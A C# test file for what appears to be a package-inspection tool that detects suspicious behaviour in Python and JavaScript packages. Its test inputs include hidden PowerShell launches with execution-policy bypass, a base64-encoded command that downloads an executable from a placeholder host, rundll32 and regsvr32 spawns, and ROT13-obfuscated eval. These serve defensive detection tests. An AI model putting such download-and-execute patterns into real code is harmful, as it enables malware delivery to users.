using PackageWall.Inspection.Facts;


namespace PackageWall.Inspection.Tests.Languages.Evaluation;

/// <summary>What runs in other files, and what lies in them, is told.</summary>
public sealed class ForeignTests
{
    // Files that can have no effect are only outlined; these are evaluated.
    private const string PythonEffect = "\nimport os\nos.system('x y')\n";
    private const string ScriptEffect = "\nrequire('child_process').exec('x y');\n";

    [Theory]
    [InlineData("from ._boot import start\nstart()", "start")]
    [InlineData("from ._boot import start as _s\n_s()", "start")]
    [InlineData("from . import _boot\n_boot.ensure()", "ensure")]
    [InlineData("from . import _boot as _b\n_b.ensure()", "ensure")]
    [InlineData("import mine.boot as b\nb.ensure()", "ensure")]
    public void Python_calls_functions_of_sibling_modules(string text, string called) => Read.Python(text + PythonEffect).ForeignCalls.Select(call => (call.Caller, call.Name)).ShouldContain(("", called));

    [Theory]
    [InlineData("require('./boot')()", "exports")]
    [InlineData("require('./boot').start()", "start")]
    [InlineData("const b = require('./boot'); b.start()", "start")]
    [InlineData("const b = require('./boot'); b()", "exports")]
    [InlineData("const { start } = require('./boot'); start()", "start")]
    [InlineData("const { start: go } = require('./boot'); go()", "start")]
    [InlineData("const go = require('./boot').start; go()", "start")]
    [InlineData("import { start as go } from './boot.js'; go()", "start")]
    public void JavaScript_calls_functions_of_sibling_files(string text, string called) => Read.Script(text + ScriptEffect).ForeignCalls.Select(call => (call.Caller, call.Name)).ShouldContain(("", called));

    [Theory]
    [InlineData("from os import path\npath.join('a')")]
    [InlineData("def start():\n    pass\nstart()")]
    [InlineData("other.start()")]
    public void Calls_of_anything_else_are_no_calls_into_other_files(string text) =>
        Read.Python(text + PythonEffect).Calls.ShouldAllBe(call => call.Callee == "start" && text.StartsWith("def", StringComparison.Ordinal));

    [Fact]
    public void A_stream_that_is_piped_into_a_file_writes_it()
    {
        FileFacts facts = Read.Script("const fs = require('fs'); require('https').get('https://a.invalid/x', r => r.pipe(fs.createWriteStream('/tmp/x')));");
        facts.All("write.file").ShouldContain(fact => fact.From.Contains("network.fetch") && fact.Value == "/tmp/x");
    }

    [Theory]
    [InlineData("require('child_process').spawn('rundll32', [require('path').join(__dirname, 'a.dll') + ',main'])", "./a.dll")]
    [InlineData("require('child_process').spawn('regsvr32', ['/s', './a.dll'])", "./a.dll")]
    [InlineData("require('child_process').spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-File', './a.ps1'])", "./a.ps1")]
    public void Hosts_lead_to_the_file_that_they_are_pointed_at(string text, string file)
    {
        FileFacts facts = Read.Script(text);
        facts.References.Where(reference => reference.Kind == ReferenceKind.Spawn).Select(reference => reference.Target).ShouldContain(file);
    }

    [Fact]
    public void Encoded_commands_are_read_behind_flags_with_values()
    {
        string code = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("Invoke-WebRequest https://a.invalid/x.exe -OutFile x.exe"));
        Read.Script($"require('child_process').exec('powershell -WindowStyle Hidden -EncodedCommand {code}')").Has("network.fetch").ShouldBeTrue();
        Read.Script($"require('child_process').spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-enc', '{code}'])").Has("network.fetch").ShouldBeTrue();
    }

    [Theory]
    [InlineData("eval((function () {/*console.log(1)*/}).toString().slice(15, -3))")]
    [InlineData("const f = () => { /* a */ }; new Function(f.toString())()")]
    public void The_text_of_a_function_is_its_own_source(string text) =>
        Read.Script(text).All("execute.code").ShouldContain(fact => fact.From.Contains("read.own-source"));

    [Fact]
    public void The_text_of_a_function_that_does_something_is_not() =>
        Read.Script("function f(a) { return a + 1; } new Function('return ' + f.toString())()").All("execute.code").ShouldAllBe(fact => !fact.From.Contains("read.own-source"));

    [Fact]
    public void Rotated_code_is_read()
    {
        FileFacts facts = Read.Script("const t = \"pbafg sf = erdhver('sf'); erdhver('puvyq_cebprff').rkrp('rpub varea'); pbafbyr.ybt('varea');\"; eval(turn(t));");
        facts.Has("decode.hidden").ShouldBeTrue(facts.Names());
        facts.All("execute.shell").ShouldContain(fact => fact.Depth > 0);
    }

    [Fact]
    public void Prose_with_brackets_is_no_rotated_code() =>
        Read.Script("const t = 'Uryyb (jbeyq) vf cebfr gung fbzrobql ebgngrq naq gung ubyqf ab pbqr ng nyy, rira jvgu oenpxrgf (yvxr gurfr).';").Has("decode.hidden").ShouldBeFalse();
}
